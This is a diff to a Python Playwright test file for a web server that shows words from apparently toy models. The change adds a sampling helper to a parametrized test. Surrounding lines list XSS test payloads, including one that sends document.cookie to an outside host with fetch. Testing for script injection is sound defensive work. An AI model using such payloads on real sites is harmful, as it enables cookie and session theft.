@@ -10,6 +10,8 @@ import pytest
 from playwright.sync_api import Page, Route, expect
 from screens import Server, drawn
 
+from sampling import mostly_slow
+
 PAYLOADS = (
     "alert(1)", "confirm`1`", "document.title='x'", "import('data:text/javascript,alert(1)')",
     "fetch('https://example.org/'+document.cookie)", "window.name='x'",
@@ -158,7 +160,7 @@ def seen(page: Page, server: Server, words: Sequence[str], model: str) -> list[C
     return found
 
 
-@pytest.mark.parametrize("name", ["toy encoder", "toy translator"])
+@pytest.mark.parametrize("name", mostly_slow(["toy encoder", "toy translator"]))
 def test_words_of_the_server(toys: Server, open_page: Callable[..., Page], name: str) -> None:
     """The same elements as with harmless words; what is not allowed fails in `open_page`."""
     page = open_page(toys.url)
